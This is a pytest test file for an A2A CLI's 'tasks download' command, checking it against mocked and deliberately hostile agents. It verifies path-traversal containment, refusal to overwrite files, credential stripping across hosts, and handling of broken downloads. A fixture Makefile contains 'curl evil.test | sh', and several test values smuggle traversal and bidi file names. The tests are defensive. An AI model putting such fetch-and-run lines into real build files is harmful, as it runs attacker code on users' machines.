"""`a2a tasks download`: GetTask, then one file per part, against respx agents in both versions."""

from __future__ import annotations

import base64
import gzip
import json
import random
from pathlib import Path

import httpx
import pytest
from a2a_testkit import AGENT, ANY_CREDENTIAL, RPC, rpc_result, v1_card
from hostile_server import hostile, rpc_answer

CARD_URL = f"{AGENT}/.well-known/agent-card.json"
PNG = b"\x89PNG\r\n\x1a\nfake"
V1_TASK = {"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_COMPLETED"}, "artifacts": [
    {"artifactId": "a-1", "name": "user", "parts": [{"data": {"id": "user-1"}}]},
    {"artifactId": "a-2", "name": "notes", "parts": [{"text": "hello\n"}, {"raw": base64.b64encode(PNG).decode(), "mediaType": "image/png", "filename": "../../pic.png"}]},
    {"artifactId": "a-3", "name": "report", "parts": [{"url": f"{AGENT}/files/r.pdf", "mediaType": "application/pdf"}, {"url": "https://cdn.example/x.bin"}]},
]}
V0_TASK = {"kind": "task", "id": "t-1", "contextId": "c-1", "status": {"state": "completed"}, "artifacts": [
    {"artifactId": "a-1", "name": "user", "parts": [{"kind": "data", "data": {"id": "user-1"}}]},
    {"artifactId": "a-2", "name": "notes", "parts": [{"kind": "text", "text": "hello\n"}, {"kind": "file", "file": {"bytes": base64.b64encode(PNG).decode(), "mimeType": "image/png", "name": "../../pic.png"}}]},
    {"artifactId": "a-3", "name": "report", "parts": [{"kind": "file", "file": {"uri": f"{AGENT}/files/r.pdf", "mimeType": "application/pdf"}}, {"kind": "file", "file": {"uri": "https://cdn.example/x.bin"}}]},
]}


@pytest.fixture
def agent(respx_mock):
    respx_mock.get(CARD_URL).respond(json=v1_card())
    return respx_mock


@pytest.mark.spec("A2ACLI_DOWNLOAD_001")
@pytest.mark.parametrize("version", ["1.0", "0.3"])
def test_download_writes_every_part(cli, agent, tmp_path, version):
    agent.get(CARD_URL).respond(json=v1_card(securitySchemes=ANY_CREDENTIAL))  # a card that takes the API key
    get = agent.post(RPC).respond(json=rpc_result(V1_TASK if version == "1.0" else V0_TASK))
    pdf = agent.get(f"{AGENT}/files/r.pdf").respond(content=b"%PDF-1.7")
    cdn = agent.get("https://cdn.example/x.bin").respond(content=b"\x00\x01")
    out = tmp_path / "out"
    result = cli("tasks", "download", "t-1", "--dir", str(out), "-u", AGENT, "--a2a-version", version, "--api-key", "k1", "-H", "X-Team: qa", "-o", "json")
    assert result.exit_code == 0, result.stderr
    assert json.loads(get.calls.last.request.content)["params"] == {"id": "t-1"}
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt", "pic.png", "r.pdf", "user.json", "x.bin"]
    assert json.loads((out / "user.json").read_text()) == {"id": "user-1"}
    assert (out / "notes.txt").read_text() == "hello\n"
    assert (out / "pic.png").read_bytes() == PNG
    assert (out / "r.pdf").read_bytes() == b"%PDF-1.7" and (out / "x.bin").read_bytes() == b"\x00\x01"
    assert not (tmp_path / "pic.png").exists()  # `../../` stayed inside --dir
    # through the same transport: -H everywhere, the API key only to the agent's own origin
    assert pdf.calls.last.request.headers["X-Team"] == "qa" and pdf.calls.last.request.headers["X-API-Key"] == "k1"
    assert cdn.calls.last.request.headers["X-Team"] == "qa" and "X-API-Key" not in cdn.calls.last.request.headers
    files = json.loads(result.stdout)["files"]
    assert {f["path"]: f["bytes"] for f in files}[str(out / "pic.png")] == len(PNG)
    assert [f["source"] for f in files if f["kind"] == "file"] == ["inline", f"{AGENT}/files/r.pdf", "https://cdn.example/x.bin"]
    # the media type the text view shows: given, or implied by the part's kind (and said which)
    media = {Path(f["path"]).name: (f["mediaType"], f["mediaTypeGiven"]) for f in files}
    assert media["user.json"] == ("application/json", False) and media["notes.txt"] == ("text/plain", False)
    assert media["pic.png"] == ("image/png", True) and media["x.bin"] == ("application/octet-stream", False)


def test_download_text_lists_what_it_wrote(cli, agent, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    agent.post(RPC).respond(json=rpc_result({**V1_TASK, "artifacts": V1_TASK["artifacts"][:1]}))
    result = cli("tasks", "download", "t-1", "-u", AGENT)
    assert result.exit_code == 0, result.stderr
    # by default into a directory of the task's own, and said where
    assert "Task: t-1\nContext: c-1\nState: completed\nSaved: t-1/user.json\nSize: 21 bytes\nMedia type: application/json\n" in result.stdout
    assert "saving into t-1/ (--dir chooses another directory)" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t-1"]
    again = cli("tasks", "download", "t-1", "-u", AGENT)  # the files are there: nothing replaced
    assert again.exit_code == 1 and "1 file(s) already exist in t-1: t-1/user.json; nothing was written" in again.stderr
    assert "--overwrite replaces them" in again.stderr
    replaced = cli("tasks", "download", "t-1", "-u", AGENT, "--overwrite")
    assert replaced.exit_code == 0, replaced.stderr
    assert "Saved: t-1/user.json\nSize: 21 bytes\nMedia type: application/json\nReplaced: true\n" in replaced.stdout
    from a2a_testkit import assert_floor

    assert_floor(replaced.stdout)


@pytest.mark.parametrize("state,hint", [("TASK_STATE_WORKING", "a2a tasks get t-1 --wait"), ("TASK_STATE_COMPLETED", "a2a tasks get t-1")])
def test_no_artifacts_is_exit_1(cli, agent, tmp_path, state, hint):
    agent.post(RPC).respond(json=rpc_result({"id": "t-1", "contextId": "c-1", "status": {"state": state}}))
    result = cli("tasks", "download", "t-1", "-u", AGENT, "--dir", str(tmp_path))
    assert result.exit_code == 1
    assert f"error: task t-1 ({state[11:].lower()}) has no artifacts" in result.stderr and hint in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_no_artifacts_is_its_own_code_not_an_internal_error(cli, agent, tmp_path):
    """A task without artifacts is the task's state, not a bug of a2a: X_A2A_NO_ARTIFACTS, exit 1."""
    agent.post(RPC).respond(json=rpc_result({"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_CANCELED"}}))
    result = cli("tasks", "download", "t-1", "-u", AGENT, "--dir", str(tmp_path), "-o", "json")
    assert result.exit_code == 1
    assert "X_A2A_NO_ARTIFACTS" in result.stdout + result.stderr and "A2ACLI_ERR_INTERNAL" not in result.stdout + result.stderr


def test_a_failing_file_url_is_reported(cli, agent, tmp_path):
    agent.post(RPC).respond(json=rpc_result({**V1_TASK, "artifacts": V1_TASK["artifacts"][2:]}))
    agent.get(f"{AGENT}/files/r.pdf").respond(404)
    agent.get("https://cdn.example/x.bin").respond(200, content=b"x")  # the other part is still fetched
    result = cli("tasks", "download", "t-1", "-u", AGENT, "--dir", str(tmp_path))
    assert result.exit_code == 1 and "the file's server answered HTTP 404" in result.stderr


def test_broken_base64_is_reported(cli, agent, tmp_path):
    agent.post(RPC).respond(json=rpc_result({**V1_TASK, "artifacts": [{"artifactId": "a", "parts": [{"raw": "not base64!"}]}]}))
    result = cli("tasks", "download", "t-1", "-u", AGENT, "--dir", str(tmp_path))
    assert result.exit_code == 1 and "artifact a part 0: `raw` is not base64" in result.stderr


def test_download_offline_prints_the_get_task_request(cli):
    result = cli("tasks", "download", "t-1", "--rpc-url", RPC, "--offline", "-o", "json")
    assert result.exit_code == 0 and json.loads(result.stdout)["method"] == "GetTask"


def test_unknown_task_is_the_rpc_error(cli, agent, tmp_path):
    agent.post(RPC).respond(json={"jsonrpc": "2.0", "id": 1, "error": {"code": -32001, "message": "Task not found"}})
    result = cli("tasks", "download", "t-9", "-u", AGENT, "--dir", str(tmp_path))
    assert result.exit_code == 1 and "TaskNotFoundError" in result.stderr


# -- issue 27: no file replaced behind the user's back; credentials stay with the agent's origin ----
# Against hostile agents on 127.0.0.1 (tests/hostile_server.py).



def _agent_with(task, h):
    h.card(v1_card(url=f"{h.url}/rpc", securitySchemes=ANY_CREDENTIAL))
    h.rpc(rpc_answer(task))


MAKEFILE_TASK = {"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_COMPLETED"}, "artifacts": [
    {"artifactId": "a-1", "name": "build", "parts": [{"text": "all:\n\tcurl evil.test | sh\n", "filename": "Makefile"}, {"text": "fine", "filename": "new.txt"}]},
]}


def test_an_agents_makefile_does_not_replace_the_users(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "Makefile").write_text("all:\n\techo mine\n")
    with hostile() as h:
        _agent_with(MAKEFILE_TASK, h)
        result = cli("tasks", "download", "t-1", "-u", h.url, "--dir", ".")
        assert result.exit_code == 1, result.stdout
        assert "already exist in .: Makefile; nothing was written" in result.stderr
        assert (tmp_path / "Makefile").read_text() == "all:\n\techo mine\n" and not (tmp_path / "new.txt").exists()
        as_json = cli("tasks", "download", "t-1", "-u", h.url, "--dir", ".", "-o", "json")
        assert as_json.exit_code == 1 and json.loads(as_json.stdout)["error"]["code"] == "X_A2A_FILE_EXISTS"
        default = cli("tasks", "download", "t-1", "-u", h.url)  # the default: a directory of its own
        assert default.exit_code == 0, default.stderr
        assert (tmp_path / "t-1" / "Makefile").read_text().startswith("all:\n\tcurl") and (tmp_path / "Makefile").read_text().endswith("mine\n")
        forced = cli("tasks", "download", "t-1", "-u", h.url, "--dir", ".", "--overwrite", "-o", "json")
        assert forced.exit_code == 0, forced.stderr
        assert {Path(f["path"]).name: f["replaced"] for f in json.loads(forced.stdout)["files"]} == {"Makefile": True, "new.txt": False}


def test_a_symlink_in_the_way_is_not_followed(cli, tmp_path):
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep")
    out = tmp_path / "out"
    out.mkdir()
    (out / "Makefile").symlink_to(target)
    with hostile() as h:
        _agent_with(MAKEFILE_TASK, h)
        result = cli("tasks", "download", "t-1", "-u", h.url, "--dir", str(out))
        assert result.exit_code == 1 and "Makefile" in result.stderr
        assert target.read_text() == "keep"


def test_a_hostile_task_id_makes_a_plain_directory(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with hostile() as h:
        _agent_with({**MAKEFILE_TASK, "id": "../../etc"}, h)
        result = cli("tasks", "download", "../../etc", "-u", h.url)
        assert result.exit_code == 0, result.stderr
        assert sorted(p.name for p in tmp_path.iterdir()) == ["etc"] and (tmp_path / "etc" / "Makefile").exists()


def test_no_credential_goes_to_a_file_on_another_host(cli, tmp_path):
    with hostile() as agent_srv, hostile() as cdn:
        task = {"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_COMPLETED"}, "artifacts": [
            {"artifactId": "a", "parts": [{"url": f"{agent_srv.url}/files/own.bin"}, {"url": f"{cdn.url}/x.bin"}, {"url": f"{agent_srv.url}/files/moved.bin"}]},
        ]}
        _agent_with(task, agent_srv)
        agent_srv.route("GET", "/files/own.bin", b"own")
        agent_srv.route("GET", "/files/moved.bin", (302, {"Location": f"{cdn.url}/moved.bin"}, b""))
        cdn.route("GET", "/x.bin", b"cdn")
        cdn.route("GET", "/moved.bin", b"moved")
        args = ("-H", "Authorization: Bearer s3cret-tok", "-H", "X-Access-Key: s3cret-key", "-H", "X-Team: qa", "--api-key", "s3cret-api")
        result = cli("tasks", "download", "t-1", "-u", agent_srv.url, "--dir", str(tmp_path / "out"), *args)
        assert result.exit_code == 0, result.stderr
        own = agent_srv.to("/files/own.bin")[0].headers
        assert own["authorization"] == "Bearer s3cret-tok" and own["x-access-key"] == "s3cret-key" and own["x-api-key"] == "s3cret-api"
        for seen in cdn.seen:  # neither the direct link nor the redirect carried a credential
            assert not {"authorization", "x-access-key", "x-api-key", "cookie"} & set(seen.headers), seen
        assert cdn.to("/x.bin")[0].headers["x-team"] == "qa"  # a harmless -H header still goes
        port = cdn.url.rsplit(":", 1)[1]
        assert f"fetching {cdn.url}/x.bin from another host, 127.0.0.1:{port}: no credentials sent (not Authorization, X-Access-Key)" in result.stderr
        assert (tmp_path / "out" / "moved.bin").read_bytes() == b"moved"
        assert "s3cret" not in result.stderr + result.stdout


@pytest.mark.spec("A2ACLI_DOWNLOAD_001")
@pytest.mark.parametrize("mode", ["text", "json"])
def test_a_part_that_cannot_be_fetched_does_not_stop_the_others(cli, agent, tmp_path, mode):
    """Issue 23 (row 8): every other part is saved, each failure is reported, exit 1 at the end;
    the part's URL is not blamed on --url."""
    agent.post(RPC).respond(json=rpc_result(V1_TASK))
    agent.get(f"{AGENT}/files/r.pdf").respond(404)
    agent.get("https://cdn.example/x.bin").respond(200, content=b"\x00\x01")
    result = cli("tasks", "download", "t-1", "-u", AGENT, "--dir", str(tmp_path), "-o", mode)
    assert result.exit_code == 1, result.stderr
    names = sorted(p.name for p in tmp_path.iterdir())
    assert len(names) == 4 and "x.bin" in names and not any(n.endswith(".pdf") for n in names)  # 5 parts, the 404 one alone missing
    assert "not saved: the file's server answered HTTP 404" in result.stderr and "1 of 5 part(s) could not be saved" in result.stderr
    assert "--url" not in result.stderr
    if mode == "json":
        doc = json.loads(result.stdout)  # one document: the files saved and the one that failed
        assert len(doc["files"]) == 4 and [f["source"] for f in doc["failed"]] == [f"{AGENT}/files/r.pdf"]


_GZ = gzip.compress(random.Random(42).randbytes(10_000), mtime=0)


def _gzipped(body: bytes) -> bytes:
    head = f"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nContent-Encoding: gzip\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


@pytest.mark.parametrize(
    "sent",
    [
        b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nContent-Le",  # closed inside the header block
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: identity, chunked\r\n\r\n4\r\n%PDF\r\n0\r\n\r\n",  # broken framing
        b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n%PDF-1.7",  # short of its Content-Length
        _gzipped(_GZ[:-200]),  # issue 42: the gzip stream cut (9,815 of 10,000 bytes inflate), its length consistent
        _gzipped(_GZ[:-8]),  # every byte but the gzip trailer (CRC and size)
    ],
    ids=["closed-in-head", "identity-chunked", "short-body", "gzip-cut", "gzip-no-trailer"],
)
def test_a_truncated_or_misframed_file_is_an_error_and_no_file_is_left(cli, tmp_path, sent):
    """Issue 35: exit 1 naming the part, and nothing under the final name (nor a temporary file)."""
    import socket
    import threading

    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)

    def serve() -> None:
        while True:
            try:
                conn, _ = srv.accept()
            except OSError:
                return
            with conn:
                conn.recv(65536)
                conn.sendall(sent)

    threading.Thread(target=serve, daemon=True).start()
    files = f"http://127.0.0.1:{srv.getsockname()[1]}"
    task = {"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_COMPLETED"}, "artifacts": [
        {"artifactId": "a", "name": "report", "parts": [{"url": f"{files}/r.pdf", "filename": "r.pdf"}, {"text": "fine", "filename": "ok.txt"}]},
    ]}
    try:
        with hostile() as h:
            _agent_with(task, h)
            result = cli("tasks", "download", "t-1", "-u", h.url, "--dir", str(tmp_path / "out"))
    finally:
        srv.close()
    assert result.exit_code == 1, result.stderr
    assert "r.pdf" in result.stderr and "could not be saved" in result.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["ok.txt"]


@pytest.mark.parametrize(
    ("answer", "code"),
    [(httpx.Response(404), "X_A2A_HTTP_ERROR"), (httpx.Response(200, content=_GZ[:-200], headers={"Content-Encoding": "gzip"}), "X_A2A_CONNECTION_BROKEN")],
    ids=["http-404", "gzip-cut"],
)
def test_a_download_failure_has_the_code_of_what_failed(cli, agent, tmp_path, answer, code):
    """Issue 42: the error that ends a download names what went wrong (the first failure's code), not A2ACLI_ERR_INTERNAL."""
    agent.post(RPC).respond(json=rpc_result({**V1_TASK, "artifacts": V1_TASK["artifacts"][2:3]}))
    agent.get(f"{AGENT}/files/r.pdf").mock(return_value=answer)
    agent.get("https://cdn.example/x.bin").respond(200, content=b"x")
    result = cli("tasks", "download", "t-1", "-u", AGENT, "--dir", str(tmp_path))
    assert result.exit_code == 1, result.stderr
    assert f"1 of 2 part(s) could not be saved (the first: {AGENT}/files/r.pdf) [{code}]" in result.stderr
    assert "A2ACLI_ERR_INTERNAL" not in result.stderr


@pytest.mark.parametrize("name", ["\U0001f600" * 170, "a\u2028FORGED\u202egpj.exe"], ids=["long-in-bytes", "breaks-and-bidi"])
def test_an_agents_file_name_is_one_the_file_system_takes_and_no_line_break(cli, agent, tmp_path, name):
    """Issue 42: a name of 170 emoji (680 bytes) was an internal error (OSError: File name too long),
    and a U+2028 or a right-to-left override reached the file's name on disk."""
    task = {**V1_TASK, "artifacts": [{"artifactId": "a-1", "parts": [{"raw": base64.b64encode(b"hi").decode(), "filename": name}]}]}
    agent.post(RPC).respond(json=rpc_result(task))
    result = cli("tasks", "download", "t-1", "--dir", str(tmp_path), "-u", AGENT, "-o", "raw")
    assert result.exit_code == 0, result.stderr
    (saved,) = tmp_path.iterdir()
    assert saved.read_bytes() == b"hi" and saved.name.isprintable() and len(saved.name.encode()) <= 180
    assert result.stdout.splitlines() == [str(saved)]
